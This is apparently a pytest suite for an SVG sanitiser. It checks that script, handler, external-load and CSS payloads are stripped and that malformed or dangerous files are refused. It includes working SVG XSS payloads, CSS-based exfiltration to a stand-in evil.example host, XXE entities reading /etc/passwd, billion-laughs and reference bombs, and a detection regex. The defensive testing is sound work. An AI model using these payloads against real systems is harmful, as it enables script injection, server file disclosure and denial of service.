"""SVG drawings are taken, and nothing in them that could do anything but be drawn."""

import gzip
import re
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.core.brand.rules.svg import MAX_BYTES, sanitised

_OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
)
_SHAPE = '<path d="M1 1L8 8" fill="#1f5fd6"/>'


def _svg(body: str) -> bytes:
    return f"{_OPEN}{body}{_SHAPE}</svg>".encode()


# Each is a way to make an SVG file do more than be drawn. The drawing beside it has to survive.
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script with cdata": "<script><![CDATA[alert(1)]]></script>",
    "script from elsewhere": '<script xlink:href="https://evil.example/x.js"/>',
    "script of another namespace": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    "handler": '<rect width="9" height="9" onclick="alert(1)"/>',
    "handler in capitals": '<rect width="9" height="9" OnLoad="alert(1)"/>',
    "handler in a namespace": '<rect xmlns:e="http://www.w3.org/2000/svg" e:onload="alert(1)"/>',
    "link": '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
    "old link": '<a xlink:href="https://evil.example/"><text>here</text></a>',
    "foreign content": '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
    "frame": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
    "image from elsewhere": '<image href="https://evil.example/x.png" width="9" height="9"/>',
    "image within": '<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>',
    "use from elsewhere": '<use href="https://evil.example/x.svg#a"/>',
    "use of data": '<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>',
    "use of a script": '<use href="javascript:alert(1)"/>',
    "fill from elsewhere": '<rect fill="url(https://evil.example/#a)" width="9" height="9"/>',
    "fill without protocol": '<rect fill="url(//evil.example/#a)" width="9" height="9"/>',
    "fill after a good one": '<rect fill="url(#a) url(\'https://evil.example/#a\')" width="9"/>',
    "fill in escapes": '<rect fill="u\\72l(https://evil.example/)" width="9" height="9"/>',
    "style that loads": '<rect style="fill:url(\'https://evil.example/x.svg#a\')" width="9"/>',
    "style in escapes": '<rect style="fill:\\75rl(https://evil.example)" width="9"/>',
    "style that runs": '<rect style="width:expression(alert(1));-moz-binding:url(evil.example)" height="9"/>',
    "style with image-set": '<rect style="fill:image-set(\'https://evil.example/x.png\' 1x)" width="9"/>',
    "style sheet import": "<style>@import url(https://evil.example/x.css);</style>",
    "style sheet font": "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>",
    "style sheet class": '<style>.a{fill:url(https://evil.example/#a)}</style><rect class="a" width="9"/>',
    "style sheet that spies": '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
    "style sheet instruction": '<?xml-stylesheet href="https://evil.example/x.css"?>',
    "animation": '<animate attributeName="href" values="javascript:alert(1)"/>',
    "set": '<rect width="9"><set attributeName="onmouseover" to="alert(1)"/></rect>',
    "handler element": '<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>',
    "filter": '<filter id="f"><feImage href="https://evil.example/x.png"/></filter>',
    "cursor": '<rect cursor="url(https://evil.example/x.cur)" width="9" height="9"/>',
    "metadata": '<metadata><x onload="alert(1)">evil.example</x></metadata>',
    "comment that ends early": "<!-- --><script>alert(1)</script><!-- -->",
    "text that looks like markup": "<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>",
    "quote that breaks out": '<rect fill="red&quot; onload=&quot;alert(1)" width="9"/>',
    "id that breaks out": '<rect id="a&quot;&gt;&lt;script&gt;alert(1)" width="9"/>',
    "base": '<rect xml:base="https://evil.example/" width="9" height="9"/>',
    "reference that hides": '<rect fill="&#117;rl(https://evil.example/)" width="9" height="9"/>',
}
# What the pattern below does not see in the attack itself; a check of the drawing as a whole covers these.
UNSEEN = {"handler in a namespace", "text that looks like markup", "id that breaks out"}
_FORBIDDEN = re.compile(
    r"<script|\son\w+=|javascript:|evil\.example|https?:(?!//www\.w3\.org/2000/svg)|data:|<style|style=|"
    r"foreign|iframe|<image|<a[ >]|animate|<set|feimage|<\?|<!|expression|@|xlink",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_could_do_harm_is_left_out_and_the_drawing_stays(attack: str) -> None:
    made = sanitised(_svg(attack))
    assert made is not None
    assert not _FORBIDDEN.findall(made.decode()), made
    assert b'<path d="M1 1L8 8" fill="#1f5fd6"></path>' in made


def _bomb(levels: int) -> str:
    steps = "".join(f'<g id="l{n}">' + f'<use href="#l{n - 1}"/>' * 10 + "</g>" for n in range(1, levels))
    return f'<defs><g id="l0"><rect width="1" height="1"/></g>{steps}</defs><use href="#l{levels - 1}"/>'


REFUSED = {
    "nothing": b"",
    "no xml": b"<svg",
    "html": b"<html><svg xmlns='http://www.w3.org/2000/svg'/></html>",
    "no namespace": b"<svg><rect/></svg>",
    "another root": b"<g xmlns='http://www.w3.org/2000/svg'/>",
    "two roots": b"<svg xmlns='http://www.w3.org/2000/svg'/><svg/>",
    "entity": b'<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
    "file": b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>',
    "laughs": b'<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    "parameter entity": b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    "unknown entity": b'<svg xmlns="http://www.w3.org/2000/svg"><text>&nbsp;</text></svg>',
    "compressed": gzip.compress(_svg("")),
    "large": _svg(" " * MAX_BYTES),
    "many": _svg("<g/>" * 3000),
    "deep": _svg("<g>" * 40 + "</g>" * 40),
    "uses of uses": _svg(_bomb(10)),
    "a circle of uses": _svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    "a pattern of itself": _svg('<pattern id="a"><rect width="1" fill="url(#a)"/></pattern>'),
    "nul": b"<svg xmlns='http://www.w3.org/2000/svg'>\x00</svg>",
    "unknown coding": b"<?xml version='1.0' encoding='x-none'?><svg xmlns='http://www.w3.org/2000/svg'/>",
}


@pytest.mark.parametrize("content", REFUSED.values(), ids=REFUSED.keys())
def test_what_is_no_drawing_is_refused(content: bytes) -> None:
    assert sanitised(content) is None


def test_the_markers_of_the_attacks_would_be_seen_if_they_stayed() -> None:
    """The check above is only worth something where it does find what is not left out."""
    unseen = {name for name, attack in ATTACKS.items() if not _FORBIDDEN.search(attack)}
    assert unseen == UNSEEN


def test_a_drawing_as_programs_write_it_keeps_its_look() -> None:
    drawn = b"""<?xml version="1.0" encoding="utf-8"?>
    <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
    <svg id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
      viewBox="0 0 64 64" style="enable-background:new 0 0 64 64;" xml:space="preserve">
    <style type="text/css">/* from a program */ .st0{fill:#E30613;} .st1, .st2 {fill:none;stroke:#fff;
    stroke-width:2}</style>
    <defs><linearGradient id="SVGID_1_" x1="0" x2="1"><stop offset="0" style="stop-color:#FFF"/></linearGradient></defs>
    <g id="mark"><path class="st0" d="M4,4h56v56H4z"/><circle class="st1 big" cx="32" cy="32" r="1.2e1"/></g>
    <rect fill="url(#SVGID_1_)" width="50%" height="10" transform="rotate(-45 5 5)"/>
    <use xlink:href="#mark" x="3"/><text x="1" y="2" font-family="'Segoe UI', sans-serif">R&amp;D</text></svg>"""
    made = sanitised(drawn)
    assert made is not None
    root = ET.fromstring(made)
    name = "{http://www.w3.org/2000/svg}"
    found = {child.tag.removeprefix(name): child.attrib for child in root.iter()}
    assert found["path"] == {"d": "M4,4h56v56H4z", "fill": "#E30613"}
    assert found["circle"]["stroke-width"] == "2"
    assert found["stop"]["stop-color"] == "#FFF"
    assert found["rect"]["fill"] == "url(#SVGID_1_)"
    assert found["use"] == {"href": "#mark", "x": "3"}
    assert root.findtext(f"{name}text") == "R&D"


def test_what_was_made_harmless_stays_as_it_is() -> None:
    once = sanitised(_svg("".join(ATTACKS.values())))
    assert once is not None
    assert sanitised(once) == once


@given(st.binary(max_size=200))
def test_any_bytes_get_an_answer(content: bytes) -> None:
    sanitised(content)
    sanitised(_OPEN.encode() + content + b"</svg>")


@given(st.text(max_size=60), st.sampled_from(["fill", "style", "href", "id", "class", "onload", "transform"]))
def test_no_value_of_an_attribute_gets_out_of_it(value: str, name: str) -> None:
    quoted = value.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    made = sanitised(_svg(f'<rect {name}="{quoted}" width="1"/>'))
    if made is not None:
        tags = [child.tag.rpartition("}")[2] for child in ET.fromstring(made).iter()]
        assert tags == ["svg", "rect", "path"]
        assert not re.search(r"\son\w+=|:", made.decode().replace("http://www.w3.org/2000/svg", ""))
